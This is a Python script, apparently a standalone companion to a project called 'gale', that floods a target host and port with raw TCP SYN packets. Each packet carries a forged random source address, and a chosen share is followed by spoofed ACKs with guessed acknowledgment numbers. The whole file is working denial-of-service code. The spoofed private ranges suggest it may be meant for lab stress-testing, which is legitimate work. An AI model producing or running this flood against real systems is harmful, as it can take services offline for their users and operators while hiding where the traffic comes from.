"""A flood of connections that nobody means: SYNs from made-up addresses, and ACKs that guess.

    python -P flood.py --at 10.77.1.10:8080 --count 80000 --acks 0.5 --seed 1

Each comes from an address of its own in 10.128.0.0/9, or of fdff::/16. `--acks`: for this share of them an ACK follows
that pretends to end the handshake. Prints how many SYNs went out a second. It stands alone, without gale.
"""

import argparse
import ipaddress
import random
import socket
import struct
import sys
import time

SYN, ACK = 0x02, 0x10
HEADER = struct.Struct("!HHIIBBHHH")


def ones_sum(data: bytes) -> int:
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return (total & 0xFFFF) + (total >> 16)


class Forger:
    """Makes whole IP packets to one destination."""

    def __init__(self, address: str, port: int, seed: int) -> None:
        self.version = ipaddress.ip_address(address).version
        self._to = ipaddress.ip_address(address).packed
        self._port = port
        self._chance = random.Random(seed)

    def source(self) -> tuple[bytes, int]:
        bits, size = self._chance.getrandbits(23), 4 if self.version == 4 else 16
        start = b"\x0a" if size == 4 else b"\xfd\xff" + self._chance.randbytes(11)
        return start + (0x800000 | bits).to_bytes(3, "big"), self._chance.randrange(1024, 65536)

    def segment(self, source: bytes, port: int, flags: int) -> bytes:
        guess = self._chance.getrandbits(32) if flags == ACK else 0
        sequence = self._chance.getrandbits(32)
        words = [port, self._port, sequence, guess, 0x50, flags, 64240, 0, 0]
        pseudo = source + self._to + struct.pack("!HH", socket.IPPROTO_TCP, HEADER.size)
        words[7] = 0xFFFF - ones_sum(pseudo + HEADER.pack(*words))
        return self._ip(source) + HEADER.pack(*words)

    def _ip(self, source: bytes) -> bytes:
        if self.version == 4:  # the kernel fills in the checksum
            length = 20 + HEADER.size
            return struct.pack("!BBHHHBBH", 0x45, 0, length, 0, 0x4000, 64, socket.IPPROTO_TCP, 0) + source + self._to
        return struct.pack("!IHBB", 6 << 28, HEADER.size, socket.IPPROTO_TCP, 64) + source + self._to


def main() -> None:
    parser = argparse.ArgumentParser(description="flood a service with connections that nobody means")
    parser.add_argument("--at", required=True)
    parser.add_argument("--count", type=int, required=True)
    parser.add_argument("--acks", type=float, default=0.0)
    parser.add_argument("--seed", type=int, default=1)
    given = parser.parse_args()
    host, _, port = given.at.rpartition(":")
    forger = Forger(host.strip("[]"), int(port), given.seed)
    family = socket.AF_INET if forger.version == 4 else socket.AF_INET6
    with socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW) as mouth:
        mouth.connect((host.strip("[]"), 0))
        began_s = time.monotonic()
        for number in range(given.count):
            source, source_port = forger.source()
            mouth.send(forger.segment(source, source_port, SYN))
            if number % 100 < 100 * given.acks:
                mouth.send(forger.segment(source, source_port, ACK))
        sys.stdout.write(f"{given.count / (time.monotonic() - began_s):.0f}\n")


if __name__ == "__main__":
    main()
